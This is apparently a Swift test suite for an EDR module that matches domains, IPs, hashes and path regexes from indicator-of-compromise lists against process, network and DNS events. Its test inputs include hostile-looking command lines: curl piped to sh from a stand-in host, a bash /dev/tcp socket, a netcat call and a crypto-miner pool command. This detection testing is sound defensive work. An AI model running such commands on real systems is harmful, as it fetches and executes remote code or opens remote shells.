import EDRCore
import Foundation
import Testing
import EDRRegex
@testable import EDRIOC

/// Repository root, found from this file's path (tests run from a symlinked dev package too).
private let repoRoot: String = {
    var url = URL(fileURLWithPath: #filePath).resolvingSymlinksInPath()
    for _ in 0..<3 { url.deleteLastPathComponent() }
    return url.path
}()

/// ../shared/corpora/signature-base/iocs beside the repository (found from this file's path).
private let signatureBaseIOCs = URL(fileURLWithPath: repoRoot).deletingLastPathComponent()
    .appendingPathComponent("shared/corpora/signature-base/iocs").path

private func makeDir(_ files: [String: String]) throws -> String {
    let dir = FileManager.default.temporaryDirectory.appendingPathComponent("ioc-test-\(UUID().uuidString)").path
    try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
    for (name, text) in files {
        try text.write(toFile: (dir as NSString).appendingPathComponent(name), atomically: true, encoding: .utf8)
    }
    return dir
}

private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOCSet {
    var b = IOCSetBuilder()
    try body(&b)
    return b.build()
}

@Suite struct DomainMatching {
    @Test func exactAndParentDomains() throws {
        let set = try build { b in
            try b.addDomain("evil.example", label: "phish")
            try b.addDomain("C2.Example.NET.", label: "c2")
        }
        #expect(set.matchDomain("evil.example")?.indicator == "evil.example")
        #expect(set.matchDomain("evil.example")?.label == "phish")
        #expect(set.matchDomain("a.b.evil.example")?.indicator == "evil.example")
        #expect(set.matchDomain("A.B.EVIL.Example.")?.indicator == "evil.example")
        #expect(set.matchDomain("notevil.example") == nil)
        #expect(set.matchDomain("evil.example.com") == nil)
        #expect(set.matchDomain("example") == nil)
        #expect(set.matchDomain("x.c2.example.net")?.label == "c2")
        #expect(set.matchDomain("") == nil)
    }

    @Test func mostSpecificParentWins() throws {
        let set = try build { b in
            try b.addDomain("example.org", label: "broad")
            try b.addDomain("bad.example.org", label: "narrow")
        }
        #expect(set.matchDomain("x.bad.example.org")?.label == "narrow")
        #expect(set.matchDomain("good.example.org")?.label == "broad")
    }

    @Test func wildcardAndInvalidDomains() throws {
        var b = IOCSetBuilder()
        try b.addDomain("*.badcdn.example")
        #expect(throws: IOCValueError.self) { try b.addDomain("http://evil.example/x") }
        #expect(throws: IOCValueError.self) { try b.addDomain("bad..example") }
        #expect(throws: IOCValueError.self) { try b.addDomain("sp ace.example") }
        #expect(throws: IOCValueError.self) { try b.addDomain("com") }
        let set = b.build()
        #expect(set.matchDomain("cdn1.badcdn.example")?.indicator == "badcdn.example")
        #expect(set.counts.domains == 1)
    }

    @Test func manyDomainsRehash() throws {
        var b = IOCSetBuilder()
        for i in 0..<5000 { try b.addDomain("host\(i).zone\(i % 7).example") }
        let set = b.build()
        #expect(set.counts.domains == 5000)
        for i in stride(from: 0, to: 5000, by: 97) {
            #expect(set.matchDomain("www.host\(i).zone\(i % 7).example")?.indicator == "host\(i).zone\(i % 7).example")
        }
        #expect(set.matchDomain("host5000.zone0.example") == nil)
    }
}

@Suite struct IPMatching {
    @Test func ipv4LongestPrefix() throws {
        let set = try build { b in
            try b.addIP("10.0.0.0/8", label: "eight")
            try b.addIP("10.1.0.0/16", label: "sixteen")
            try b.addIP("10.1.2.3", label: "host")
            try b.addIP("192.0.2.77/24", label: "host bits cleared")
        }
        #expect(set.matchIP("10.1.2.3")?.label == "host")
        #expect(set.matchIP("10.1.2.3")?.indicator == "10.1.2.3")
        #expect(set.matchIP("10.1.9.9")?.indicator == "10.1.0.0/16")
        #expect(set.matchIP("10.200.0.1")?.indicator == "10.0.0.0/8")
        #expect(set.matchIP("11.0.0.1") == nil)
        #expect(set.matchIP("192.0.2.1")?.indicator == "192.0.2.0/24")
        #expect(set.matchIP("::ffff:10.1.2.3")?.label == "host")
        #expect(set.matchIP("not-an-ip") == nil)
        #expect(set.matchIP("10.1.2") == nil)
        #expect(set.matchIP("10.1.2.256") == nil)
    }

    @Test func ipv6LongestPrefix() throws {
        let set = try build { b in
            try b.addIP("2001:db8::/32", label: "doc")
            try b.addIP("2001:db8:dead::/48", label: "dead")
            try b.addIP("2001:db8:dead:beef::1", label: "host")
            try b.addIP("::/0", label: "everything v6")
        }
        #expect(set.matchIP("2001:db8:dead:beef::1")?.label == "host")
        #expect(set.matchIP("2001:DB8:DEAD:1::2")?.indicator == "2001:db8:dead::/48")
        #expect(set.matchIP("2001:db8:1::1")?.indicator == "2001:db8::/32")
        #expect(set.matchIP("fe80::1%eth0")?.indicator == "::/0")
        #expect(set.matchIP("192.0.2.1") == nil)
    }

    @Test func largeSetUsesBucketIndex() throws {
        var b = IOCSetBuilder()
        var rng = SystemRandomNumberGenerator()
        var listed: [UInt32] = [0, 0xFFFF_FFFF, 0x0A00_0001]
        for _ in 0..<40_000 { listed.append(UInt32.random(in: 0...UInt32.max, using: &rng)) }
        for a in listed { try b.addIP("\(a >> 24).\(a >> 16 & 255).\(a >> 8 & 255).\(a & 255)", label: "h") }
        try b.addIP("10.0.0.0/8", label: "net")
        let set = b.build()
        for a in listed.prefix(2000) {
            #expect(set.matchIP("\(a >> 24).\(a >> 16 & 255).\(a >> 8 & 255).\(a & 255)")?.label == "h")
        }
        #expect(set.matchIP("0.0.0.0")?.label == "h")
        #expect(set.matchIP("255.255.255.255")?.label == "h")
        #expect(set.matchIP("10.0.0.1")?.label == "h")
        let listedSet = Set(listed)
        var misses = 0
        for _ in 0..<2000 {
            let a = UInt32.random(in: 0...UInt32.max, using: &rng)
            if listedSet.contains(a) || a >> 24 == 10 { continue }
            if set.matchIP("\(a >> 24).\(a >> 16 & 255).\(a >> 8 & 255).\(a & 255)") == nil { misses += 1 }
        }
        #expect(misses > 1900)
        #expect(set.matchIP("10.200.1.1")?.label == "net")
    }

    @Test func invalidNetworks() {
        var b = IOCSetBuilder()
        #expect(throws: IOCValueError.self) { try b.addIP("10.0.0.0/33") }
        #expect(throws: IOCValueError.self) { try b.addIP("2001:db8::/129") }
        #expect(throws: IOCValueError.self) { try b.addIP("evil.example") }
        #expect(throws: IOCValueError.self) { try b.addIP("1.2.3.4/") }
    }
}

@Suite struct HashAndPathMatching {
    @Test func hashesByLength() throws {
        let set = try build { b in
            try b.addHash("44D88612FEA8A8F36DE82E1278ABB02F", label: "eicar md5")
            try b.addHash("3395856ce81f2b7382dee72602f798b642f14140", label: "eicar sha1")
            try b.addHash("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", label: "eicar sha256")
        }
        #expect(set.matchHash("44d88612fea8a8f36de82e1278abb02f")?.label == "eicar md5")
        #expect(set.matchHash("44d88612fea8a8f36de82e1278abb02f")?.indicator == "44d88612fea8a8f36de82e1278abb02f")
        #expect(set.matchHash("3395856CE81F2B7382DEE72602F798B642F14140")?.label == "eicar sha1")
        #expect(set.matchHash("3395856ce81f2b7382dee72602f798b642f14140")?.indicator == "3395856ce81f2b7382dee72602f798b642f14140")
        #expect(set.matchHash("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f")?.label == "eicar sha256")
        #expect(set.matchHash("3395856ce81f2b7382dee72602f798b642f14141") == nil)
        #expect(set.matchHash("44d88612") == nil)
        let m = set.match(md5: "44d88612fea8a8f36de82e1278abb02f", sha1: nil, sha256: "00", field: "file.hash")
        #expect(
            m == [
                IOCMatch(
                    type: .hash, indicator: "44d88612fea8a8f36de82e1278abb02f", label: "eicar md5", field: "file.hash",
                    observed: "44d88612fea8a8f36de82e1278abb02f")
            ])
        #expect(set.digestKinds == (md5: true, sha1: true, sha256: true))
        #expect(IOCSet().digestKinds == (md5: false, sha1: false, sha256: false))
        var b = IOCSetBuilder()
        #expect(throws: IOCValueError.self) { try b.addHash("zz588612fea8a8f36de82e1278abb02f") }
        #expect(throws: IOCValueError.self) { try b.addHash("abc") }
    }

    @Test func pathRegexes() throws {
        let set = try build { b in
            try b.addPathRegex("^/dev/shm/[^/]+$", label: "shm")
            try b.addPathRegex("(?i)/xmrig[^/]*$", label: "miner")
            try b.addPathRegex("^/tmp/.*\\.elf$", label: "tmp elf", exclude: "^/tmp/systemd-private-")
            try b.addPathRegex("/(a+)\\1/", label: "backreference, kept standalone")
        }
        #expect(set.matchPath("/dev/shm/x").map(\.label) == ["shm"])
        #expect(set.matchPath("/dev/shm/dir/x").isEmpty)
        #expect(set.matchPath("/home/u/XMRig-6.21").map(\.label) == ["miner"])
        #expect(set.matchPath("/tmp/a.elf").map(\.label) == ["tmp elf"])
        #expect(set.matchPath("/tmp/systemd-private-1/a.elf").isEmpty)
        #expect(set.matchPath("/x/aaaa/y").map(\.label) == ["backreference, kept standalone"])
        #expect(set.matchPath("/usr/bin/ls").isEmpty)
        var b = IOCSetBuilder()
        #expect(throws: IOCValueError.self) { try b.addPathRegex("([unclosed") }
    }

    @Test func manyPathRegexesAcrossChunks() throws {
        var b = IOCSetBuilder()
        for i in 0..<1000 { try b.addPathRegex("^/opt/app\(i)/bin/[a-z]+$", label: "p\(i)") }
        let set = b.build()
        #expect(set.matchPath("/opt/app999/bin/run").map(\.label) == ["p999"])
        #expect(set.matchPath("/opt/app0/bin/run").map(\.label) == ["p0"])
        #expect(set.matchPath("/opt/app1000/bin/run").isEmpty)
    }
}

@Suite struct RegexLiterals {
    @Test func requiredLiterals() {
        func lit(_ p: String) -> String? { RegexLiteral.required(p).map { String(decoding: $0, as: UTF8.self) } }
        #expect(lit(#"\\usbclass\.sys"#) == #"\usbclass.sys"#)
        #expect(lit("^/dev/shm/[^/]+$") == "/dev/shm/")
        #expect(lit("(?i)/XMRig[^/]*$") == "/xmrig")
        #expect(lit("abc?def") == "def")
        #expect(lit("ab+cd") == "ab")
        #expect(lit("x{0,3}yz") == "yz")
        #expect(lit("foo|bar") == nil)
        #expect(lit("(foo|bar)baz") == "baz")
        #expect(lit(#"\x41\x42"#) == nil)
        #expect(lit(#"\d+\.exe"#) == ".exe")
        #expect(lit("(?x) a b c") == nil)
        #expect(lit("[abc]") == nil)
        #expect(lit(#"\\[0-9]\.(exe|dll)$"#) == #"\"#)
        #expect(lit(#"\\QuickPee\.exe"#) == #"\quickpee.exe"#)
        #expect(lit(#"\Qa.b\E"#) == nil)
    }

    @Test func indexFindsAllLiterals() {
        let a = LiteralIndex([
            (Array("he".utf8), 0), (Array("she".utf8), 1), (Array("his".utf8), 2), (Array("hers".utf8), 3),
            (Array("ushers".utf8), 4), (Array("shers".utf8), 5), (Array("rsx".utf8), 6), (Array("ushersx".utf8), 7)
        ])
        var found: [Int] = []
        var s = "USHERS"
        s.withUTF8 { b in a.scan(b) { found.append($0) } }
        #expect(Set(found) == [0, 1, 3, 4, 5])
        found = []
        s = "ab"
        s.withUTF8 { b in a.scan(b) { found.append($0) } }
        #expect(found.isEmpty)
    }
}

@Suite struct CommandLineHosts {
    @Test func extractsURLsHostsAndLiterals() {
        let t = IOCSet.networkTokens(in: #"curl -fsSL "https://Payload.Evil.Example:8443/x.sh?a=1" | sh; wget http://198.51.100.23/a -O /tmp/a"#)
        #expect(t.contains("Payload.Evil.Example"))
        #expect(t.contains("198.51.100.23"))
        #expect(!t.contains("/tmp/a"))
        let t2 = IOCSet.networkTokens(in: "ssh -p 22 root@c2.example.net nc 203.0.113.9 4444 ping6 2001:db8:dead::5 curl http://[2001:db8::7]:80/")
        #expect(t2.contains("c2.example.net"))
        #expect(t2.contains("203.0.113.9"))
        #expect(t2.contains("2001:db8:dead::5"))
        #expect(t2.contains("2001:db8::7"))
        let t3 = IOCSet.networkTokens(in: "bash -c 'exec 5<>/dev/tcp/evil.example/443' --server=mining.pool.example:3333")
        #expect(t3.contains("mining.pool.example"))
        let t4 = IOCSet.networkTokens(in: "/usr/bin/python3 -m http.server 8000 1.2.3")
        #expect(!t4.contains("1.2.3"))
        #expect(!t4.contains { $0.hasPrefix("/") })
    }

    @Test func devTcpHostIsFound() throws {
        // /dev/tcp/HOST/PORT: the host is a path component, so it is looked for there too.
        let set = try build { b in try b.addDomain("evil.example") }
        let ev = Event(
            logsource: LogSource(product: "linux", category: "process_creation"),
            fields: [("CommandLine", "bash -c 'exec 5<>/dev/tcp/x.evil.example/443'")])
        #expect(set.match(event: ev).map(\.indicator) == ["evil.example"])
    }
}

@Suite struct EventMatching {
    static let set: IOCSet = {
        var b = IOCSetBuilder()
        try! b.addDomain("evil.example", label: "phish")
        try! b.addIP("203.0.113.0/24", label: "range")
        try! b.addIP("2001:db8:dead::/48", label: "v6 range")
        try! b.addHash("44d88612fea8a8f36de82e1278abb02f", label: "eicar")
        try! b.addPathRegex("^/dev/shm/", label: "shm")
        return b.build()
    }()

    @Test func networkConnection() {
        let ev = Event(
            logsource: LogSource(product: "linux", category: "network_connection"),
            fields: [
                ("Image", "/usr/bin/curl"), ("Initiated", true), ("SourceIp", "203.0.113.5"),
                ("DestinationIp", "203.0.113.77"), ("DestinationHostname", "cdn.evil.example")
            ])
        let m = Self.set.match(event: ev)
        #expect(m.count == 2)
        #expect(m.contains(IOCMatch(type: .ip, indicator: "203.0.113.0/24", label: "range", field: "DestinationIp", observed: "203.0.113.77")))
        #expect(m.contains(IOCMatch(type: .domain, indicator: "evil.example", label: "phish", field: "DestinationHostname", observed: "cdn.evil.example")))
        // Outbound: SourceIp is this host and is not checked; inbound: it is the peer.
        var inbound = ev
        inbound["Initiated"] = false
        inbound["DestinationIp"] = "192.0.2.1"
        inbound["DestinationHostname"] = nil
        #expect(Self.set.match(event: inbound).map(\.field) == ["SourceIp"])
    }

    @Test func dnsQuery() {
        let ev = Event(
            logsource: LogSource(product: "linux", category: "dns_query"),
            fields: [
                ("QueryName", "www.EVIL.example."),
                ("QueryResults", "type: 5 alias.cdn.example;::ffff:203.0.113.9;2001:db8:dead::1;")
            ])
        let m = Self.set.match(event: ev)
        #expect(m.contains { $0.type == .domain && $0.field == "QueryName" })
        #expect(m.contains { $0.type == .ip && $0.field == "QueryResults" && $0.indicator == "203.0.113.0/24" })
        #expect(m.contains { $0.type == .ip && $0.field == "QueryResults" && $0.indicator == "2001:db8:dead::/48" })
        #expect(m.count == 3)
        #expect(Set(m.map(\.ecsIndicatorType)) == ["domain-name", "ipv4-addr", "ipv6-addr"])
    }

    @Test func processAndFileEvents() {
        let ev = Event(
            logsource: LogSource(product: "linux", category: "process_creation"),
            fields: [
                ("Image", "/dev/shm/kworker"),
                ("CommandLine", "/dev/shm/kworker -o stratum+tcp://pool.evil.example:3333 --fallback 203.0.113.4"),
                ("Hashes", "MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=00")
            ])
        let m = Self.set.match(event: ev)
        #expect(m.contains { $0.type == .path && $0.field == "Image" && $0.label == "shm" })
        #expect(m.contains { $0.type == .domain && $0.field == "CommandLine" && $0.observed == "pool.evil.example" })
        #expect(m.contains { $0.type == .ip && $0.field == "CommandLine" && $0.observed == "203.0.113.4" })
        #expect(m.contains { $0.type == .hash && $0.field == "Hashes" && $0.label == "eicar" })
        let file = Event(
            logsource: LogSource(product: "linux", category: "file_event"),
            fields: [("TargetFilename", "/dev/shm/.x"), ("Image", "/usr/bin/cp")])
        #expect(Self.set.match(event: file).map(\.field) == ["TargetFilename"])
        let clean = Event(
            logsource: LogSource(product: "linux", category: "process_creation"),
            fields: [("Image", "/usr/bin/ls"), ("CommandLine", "ls -la /tmp example.com")])
        #expect(Self.set.match(event: clean).isEmpty)
    }
}

@Suite struct Loading {
    @Test func malformedLinesReportedAndRestLoads() throws {
        let dir = try makeDir([
            "domains.txt": "# comment\n\nevil.example;label one\nbad!domain.example\nok.example   spaced label\n198.51.100.1 # an IP in the domain list\n",
            "ips.txt": "203.0.113.0/24;range\n10.0.0.0/40\nnot.an.ip\n2001:db8::/32 doc\n",
            "hashes.txt": "44d88612fea8a8f36de82e1278abb02f;eicar\n1234;short\n",
            "paths_regex.txt": "^/dev/shm/;shm\n([broken;bad\n^/tmp/x[;]y$;class with semicolon;^/tmp/xx\n"
        ])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let r = IOCSet.load(directory: dir)
        #expect(r.set.counts == IOCCounts(domains: 2, ips: 3, hashes: 1, paths: 2))
        let where_ = r.diagnostics.map { "\(($0.file as NSString).lastPathComponent):\($0.line)" }
        #expect(where_ == ["domains.txt:4", "ips.txt:2", "ips.txt:3", "hashes.txt:2", "paths_regex.txt:2"])
        #expect(r.diagnostics[0].message.contains("invalid character"))
        #expect(r.diagnostics[1].message.contains("CIDR"))
        #expect(r.set.matchDomain("ok.example")?.label == "spaced label")
        #expect(r.set.matchIP("198.51.100.1")?.label == "an IP in the domain list")
        #expect(r.set.matchPath("/tmp/x;y").first?.label == "class with semicolon")
    }

    @Test func filesMergeWithTheirLabels() throws {
        let dir = try makeDir([
            "domains.txt": "a.example;from domains\nshared.example;first wins\n",
            "my-c2-list.txt": "b.example;from c2\nshared.example;second\n192.0.2.9;c2 address\n",
            "ips.txt": "192.0.2.0/24;from ips\n",
            "hashes.txt": "44d88612fea8a8f36de82e1278abb02f;hash label\n",
            "extra-hashes.txt": "3395856ce81f2b7382dee72602f798b642f14140;other hash label\n"
        ])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let r = IOCSet.load(directory: dir)
        #expect(r.diagnostics.isEmpty)
        #expect(r.files.count == 5)
        #expect(r.set.counts == IOCCounts(domains: 3, ips: 2, hashes: 2, paths: 0))
        #expect(r.set.matchDomain("x.a.example")?.label == "from domains")
        #expect(r.set.matchDomain("x.b.example")?.label == "from c2")
        #expect(r.set.matchDomain("shared.example")?.label == "first wins")
        #expect(r.set.matchIP("192.0.2.9")?.label == "c2 address")
        #expect(r.set.matchIP("192.0.2.10")?.label == "from ips")
        #expect(r.set.matchHash("44d88612fea8a8f36de82e1278abb02f")?.label == "hash label")
        #expect(r.set.matchHash("3395856ce81f2b7382dee72602f798b642f14140")?.label == "other hash label")
    }

    @Test func duplicatesInOneFileKeepFirstLabel() throws {
        var lines = ["dup.example;first", "DUP.example.;second"]
        for i in 0..<100 { lines.append("d\(i).example;n\(i)") }
        lines.append("dup.example;third")
        lines.append("d5.example;later")
        let dir = try makeDir(["domains.txt": lines.joined(separator: "\n")])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let r = IOCSet.load(directory: dir)
        #expect(r.set.counts.domains == 101)
        #expect(r.set.matchDomain("dup.example")?.label == "first")
        #expect(r.set.matchDomain("x.d5.example")?.label == "n5")
        #expect(r.set.matchDomain("d99.example")?.label == "n99")
    }

    @Test func severalDirectories() throws {
        let a = try makeDir(["domains.txt": "one.example;from a\nboth.example;a wins\n"])
        let b = try makeDir(["domains.txt": "two.example;from b\nboth.example;b\n", "ips.txt": "192.0.2.1;b ip\n"])
        defer { for d in [a, b] { try? FileManager.default.removeItem(atPath: d) } }
        let r = IOCSet.load(directories: [a, b, a + "/missing"])
        #expect(r.files.count == 3)
        #expect(r.diagnostics.count == 1)
        #expect(r.set.counts == IOCCounts(domains: 3, ips: 1, hashes: 0, paths: 0))
        #expect(r.set.matchDomain("both.example")?.label == "a wins")
        #expect(r.set.matchDomain("two.example")?.label == "from b")
        #expect(r.set.matchIP("192.0.2.1")?.label == "b ip")
    }

    @Test func absentFilesAndMissingDirectory() throws {
        let dir = try makeDir(["ips.txt": "192.0.2.1\n"])
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let r = IOCSet.load(directory: dir)
        #expect(r.diagnostics.isEmpty)
        #expect(r.set.counts.total == 1)
        let missing = IOCSet.load(directory: dir + "/nope")
        #expect(missing.diagnostics.count == 1)
        #expect(missing.set.isEmpty)
    }

    @Test func exampleListsLoad() {
        let r = IOCSet.load(directory: repoRoot + "/rules/ioc")
        #expect(r.diagnostics.isEmpty, "\(r.diagnostics)")
        #expect(r.set.counts.domains == 3)
        #expect(r.set.counts.ips == 3)
        #expect(r.set.counts.hashes == 3)
        #expect(r.set.counts.paths == 4)
        #expect(r.set.matchDomain("x.c2.example.net")?.indicator == "c2.example.net")
        #expect(r.set.matchDomain("x.c2.example.net")?.label == "Example C2 domain")
        #expect(r.set.matchIP("203.0.113.200")?.indicator == "203.0.113.0/24")
    }

    @Test func signatureBaseListsLoad() throws {
        try #require(FileManager.default.fileExists(atPath: signatureBaseIOCs), "signature-base corpus missing at \(signatureBaseIOCs)")
        let r = IOCSet.load(directory: signatureBaseIOCs)
        let c = r.set.counts
        print("signature-base IOCs: \(c), \(r.diagnostics.count) rejected lines")
        for d in r.diagnostics.prefix(20) { print("  \(d)") }
        // The corpus is a fixed, read-only copy: its counts are exact.
        #expect(r.files.count == 3)
        #expect(c.domains == 1655)
        #expect(c.ips == 118)
        #expect(c.hashes == 3053)
        #expect(c.paths == 3828)
        #expect(r.diagnostics.isEmpty, "\(r.diagnostics.prefix(5))")
        // A known entry from each list.
        #expect(r.set.matchDomain("www.suroot.com")?.indicator == "suroot.com")
        #expect(r.set.matchIP("58.64.143.244")?.indicator == "58.64.143.244")
        #expect(r.set.matchIP("58.64.143.245") == nil)
        #expect(r.set.matchHash("ce583821191345274cd954b2db7da9742c239fe413fc17dcb97ffdd7b51cb072")?.label == "Dark Caracal - MS Windows HtmlHelp Data")
        #expect(!r.set.matchPath(#"C:\Windows\System32\drivers\usbclass.sys"#).isEmpty)
    }

    /// The prefilters never change the answer: compare with every pattern run one by one.
    @Test func prefilteredPathMatchingEqualsBruteForce() throws {
        try #require(FileManager.default.fileExists(atPath: signatureBaseIOCs), "signature-base corpus missing at \(signatureBaseIOCs)")
        let set = IOCSet.load(directory: signatureBaseIOCs).set
        let entries = set.paths.entries
        var paths = ["/usr/bin/bash", "/tmp/x.sh", #"C:\Windows\System32\svchost.exe"#, "/dev/shm/kworker", ""]
        for (i, e) in entries.enumerated() where i % 7 == 0 {
            if let lit = RegexLiteral.required(e.pattern.source) {
                let l = String(decoding: lit, as: UTF8.self)
                paths.append(#"C:\Users\bob\AppData\Local\Temp"# + l)
                paths.append(#"C:\Windows\System32\"# + l.uppercased() + ".exe")
            }
        }
        let matchData = PCREMatchData()
        let md = matchData.pointer
        var hits = 0
        for p in paths {
            var q = p
            let brute: [String] = q.withUTF8 { b in
                entries.filter { $0.pattern.matches(b, md) && !($0.exclude?.matches(b, md) ?? false) }.map(\.pattern.source)
            }
            let fast = set.matchPath(p).map(\.indicator)
            #expect(fast == brute, "\(p)")
            hits += fast.count
        }
        #expect(hits > 100)
    }
}
